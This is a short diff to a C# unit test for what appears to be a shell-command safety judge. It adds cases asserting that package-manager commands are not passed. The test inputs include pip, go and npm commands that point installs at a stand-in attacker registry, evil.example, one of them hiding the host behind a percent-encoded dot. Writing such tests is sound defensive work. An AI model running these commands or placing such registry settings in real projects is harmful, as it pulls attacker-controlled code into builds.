@@ -50,6 +50,8 @@ public sealed class DefaultIndexTests
             $"pip install -i {s_python}/simple --extra-index-url https://evil.example/simple x",
             $"go env -w GOPROXY={s_go},https://evil.example",
             $"printf 'registry={s_npm}/\\n@a:registry=https://evil.example/\\n' > .npmrc",
+            $"pip install -i http://evil.example/{s_python}/simple x",
+            $"pip install -i {s_python}%2eevil.example/simple x",
             $"pip install --trusted-host {s_python["https://".Length..]} x",
         ];
         Assert.All(commands, command => Assert.NotEqual(VerdictKind.Pass, BashCases.Judge(command)));
